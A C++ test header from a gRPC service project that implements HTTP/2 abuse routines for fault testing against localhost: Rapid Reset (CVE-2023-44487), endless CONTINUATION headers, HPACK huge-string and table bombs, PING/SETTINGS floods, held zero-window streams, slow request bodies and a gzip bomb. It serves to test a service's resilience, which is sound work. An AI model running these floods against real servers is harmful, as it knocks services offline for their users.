// Abuse of HTTP/2, as shared/promises.md lists it: each runs until it is stopped, comes again when
// it is cut off, and tells how often it did what it does.
#pragma once

#include <atomic>
#include <memory>
#include <stop_token>
#include <string>
#include <thread>
#include <vector>

#include "tests/fault/http2.h"
#include "umkm/aggregation/v1/totals_service.pb.h"

namespace umkm::testing {

using Done = std::atomic<int64_t>;

inline void Pause(int milliseconds = 1) {
  std::this_thread::sleep_for(std::chrono::milliseconds(milliseconds));
}

inline const std::string kRegister = "/umkm.registry.v1.RegistryService/RegisterEnterprise";

// A whole call as frames.
inline std::string CallFrames(uint32_t stream, const std::string& method,
                              const std::string& request = "") {
  return Http2::Frame(Http2::kHeaders, Http2::kEndHeaders, stream, Http2::CallOf(method)) +
         Http2::Frame(Http2::kData, Http2::kEndStream, stream, Http2::Message(request));
}

// Keeps `count` connections that each made a call; opens again what was closed.
inline void HoldConnections(const std::stop_token& stop, int port, Done& done, std::size_t count,
                            int sources) {
  std::vector<std::unique_ptr<Http2>> held(count);
  while (!stop.stop_requested()) {
    int opened = 0;
    for (std::size_t i = 0; i < count && !stop.stop_requested(); ++i) {
      if (held[i] && held[i]->Drain()) continue;
      const auto source = 66 + static_cast<int>(i) % sources;
      held[i] = std::make_unique<Http2>(port, "127.0.7." + std::to_string(source));
      held[i]->Begin();
      held[i]->Send(CallFrames(1, "/umkm.registry.v1.RegistryService/GetEnterprise"));
      ++done;
      if (++opened % 20 == 0) Pause();
    }
    Pause();
  }
}

// Runs `flood(connection)` on a connection until it is closed, then on another.
template <class Flood>
void Again(const std::stop_token& stop, int port, Flood&& flood) {
  while (!stop.stop_requested()) {
    Http2 connection(port);
    connection.Begin();
    while (connection.open() && !stop.stop_requested()) {
      flood(connection);
      if (connection.open()) connection.Drain();
    }
    Pause(5);
  }
}

// CVE-2023-44487: calls that are taken back at once.
inline void RapidReset(const std::stop_token& stop, int port, Done& done) {
  uint32_t stream = 1;
  Again(stop, port, [&](Http2& connection) {
    std::string batch;
    for (int i = 0; i < 50; ++i, stream += 2) {
      batch += CallFrames(stream, "/umkm.aggregation.v1.TotalsService/GetTotals") +
               Http2::Frame(Http2::kReset, Http2::kNone, stream, std::string("\0\0\0\10", 4));
    }
    done += connection.Send(batch) ? 50 : 0;
    Pause();
  });
}

// Headers that never end.
inline void Continuation(const std::stop_token& stop, int port, Done& done) {
  Again(stop, port, [&](Http2& connection) {
    const std::string part = Http2::Field("a", std::string(1000, 'a'));
    connection.Send(Http2::Frame(Http2::kHeaders, Http2::kNone, 1, part));
    while (connection.open() && !stop.stop_requested()) {
      std::string batch;
      for (int i = 0; i < 20; ++i) {
        batch += Http2::Frame(Http2::kContinuation, Http2::kNone, 1, part);
      }
      done += connection.Send(batch) ? 20 : 0;
      if (connection.open()) connection.Drain();
    }
  });
}

// CVE-2023-33953: a string of a gibibyte is announced, and comes in small pieces.
inline void HugeString(const std::stop_token& stop, int port, Done& done) {
  Again(stop, port, [&](Http2& connection) {
    connection.Send(
        Http2::Frame(Http2::kHeaders, Http2::kNone, 1,
                     std::string("\0\1a", 3) + Http2::Length(std::size_t{1} << 30, 7, 0)));
    while (connection.open() && !stop.stop_requested()) {
      const auto part =
          Http2::Frame(Http2::kContinuation, Http2::kNone, 1, std::string(16'384, 'a'));
      done += connection.Send(part) ? 1 : 0;
      if (connection.open()) connection.Drain();
    }
  });
}

// In turns: a long field that one byte repeats 12,000 times, an index that is not, a table of 4
// GiB.
inline void Table(const std::stop_token& stop, int port, Done& done) {
  const std::string bomb = "\x40" + Http2::Length(1, 7, 0) + "a" + Http2::Length(4000, 7, 0) +
                           std::string(4000, 'a') + std::string(12'000, '\xbe');
  const std::vector<std::string> blocks = {bomb, Http2::Length(500, 7, 0x80),
                                           Http2::Length(0xffffffff, 5, 0x20)};
  std::size_t turn = 0;
  uint32_t stream = 1;
  Again(stop, port, [&](Http2& connection) {
    const auto block = Http2::CallOf(kRegister) + blocks[turn++ % blocks.size()];
    done += connection.Send(
                Http2::Frame(Http2::kHeaders, Http2::kEndHeaders, stream, block.substr(0, 16'384)))
                ? 1
                : 0;
    stream += 2;
    Pause();
  });
}

// Frames that each want an answer: PING, or SETTINGS.
inline void Answered(const std::stop_token& stop, int port, Done& done, const std::string& frame) {
  std::string batch;
  for (int i = 0; i < 100; ++i) batch += frame;
  Again(stop, port, [&](Http2& connection) {
    done += connection.Send(batch) ? 100 : 0;
    Pause();
  });
}

// Opens `streams` calls with `frames(stream)` on each of two connections, then calls `after`
// every 50 ms on each.
template <class Frames, class After>
void HoldCalls(const std::stop_token& stop, int port, Done& done, uint32_t streams, Frames&& frames,
               After&& after) {
  Http2 one(port), two(port);
  for (Http2* connection : {&one, &two}) {
    connection->Begin({{4, 0}});  // SETTINGS_INITIAL_WINDOW_SIZE: nothing of a response is taken
    for (uint32_t i = 0; i < streams; ++i) {
      done += connection->Send(frames(1 + 2 * i)) ? 1 : 0;
    }
  }
  while (!stop.stop_requested()) {
    Pause(50);
    after(one);
    after(two);
  }
}

inline void UnreadWatches(const std::stop_token& stop, int port, Done& done) {
  aggregation::v1::WatchTotalsRequest request;
  request.mutable_selection()->add_group_by(aggregation::v1::DIMENSION_DISTRICT);
  request.mutable_selection()->add_group_by(aggregation::v1::DIMENSION_SECTION);
  const std::string bytes = request.SerializeAsString();
  HoldCalls(
      stop, port, done, 100,
      [&](uint32_t stream) {
        return CallFrames(stream, "/umkm.aggregation.v1.TotalsService/WatchTotals", bytes);
      },
      [](Http2& connection) { connection.Drain(); });
}

// 200 requests of which a byte comes every 50 ms.
inline void SlowBodies(const std::stop_token& stop, int port, Done& done) {
  HoldCalls(
      stop, port, done, 100,
      [](uint32_t stream) {
        return Http2::Frame(Http2::kHeaders, Http2::kEndHeaders, stream, Http2::CallOf(kRegister));
      },
      [](Http2& connection) {
        std::string bytes;
        for (uint32_t i = 0; i < 100; ++i) {
          bytes += Http2::Frame(Http2::kData, Http2::kNone, 1 + 2 * i, std::string(1, '\0'));
        }
        connection.Send(bytes);
        connection.Drain();
      });
}

// A small message that would inflate to megabytes.
inline void GzipBomb(const std::stop_token& stop, int port, Done& done, const std::string& gzip) {
  const std::string message = Http2::Message(gzip, true);
  std::string frames =
      Http2::Frame(Http2::kHeaders, Http2::kEndHeaders, 1,
                   Http2::CallOf(kRegister) + Http2::Field("grpc-encoding", "gzip"));
  for (std::size_t at = 0; at < message.size(); at += 16'384) {
    const bool last = at + 16'384 >= message.size();
    frames += Http2::Frame(Http2::kData, last ? Http2::kEndStream : Http2::kNone, 1,
                           message.substr(at, 16'384));
  }
  while (!stop.stop_requested()) {
    Http2 connection(port);
    connection.Begin();
    done += connection.Send(frames) ? 1 : 0;
    for (int i = 0; i < 20 && !stop.stop_requested(); ++i) {
      if (connection.Receive().find("grpc-status") != std::string::npos) break;
    }
    Pause(15);
  }
}

}  // namespace umkm::testing
